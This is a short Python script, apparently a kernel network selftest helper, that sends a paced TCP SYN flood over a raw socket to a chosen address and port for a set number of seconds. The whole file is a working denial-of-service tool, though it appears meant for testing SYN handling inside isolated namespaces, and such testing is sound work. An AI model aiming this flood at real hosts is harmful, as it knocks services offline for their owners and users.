#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""A paced TCP SYN flood from this namespace's own address.

    synflood.py SRC DST PORT SECONDS [PPS]

Raw socket, one SYN per packet from a new source port each time, PPS packets
per second (default 2000) for SECONDS.  The kernel adds the IP header.
"""
import random
import socket
import struct
import sys
import time

from tunsend import csum  # the Internet checksum, next to this file


def main():
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    src, dst, port, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    pps = int(sys.argv[5]) if len(sys.argv) > 5 else 2000
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sa, da = socket.inet_aton(src), socket.inet_aton(dst)
    end = time.monotonic() + secs
    sent = 0
    batch = max(1, pps // 100)
    while time.monotonic() < end:
        t0 = time.monotonic()
        for _ in range(batch):
            sport = random.randint(1024, 65535)
            seq = random.getrandbits(32)
            tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
            c = csum(sa + da + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
            tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
            s.sendto(tcp, (dst, 0))
            sent += 1
        left = 0.01 - (time.monotonic() - t0)
        if left > 0:
            time.sleep(left)
    print(sent)


if __name__ == "__main__":
    main()
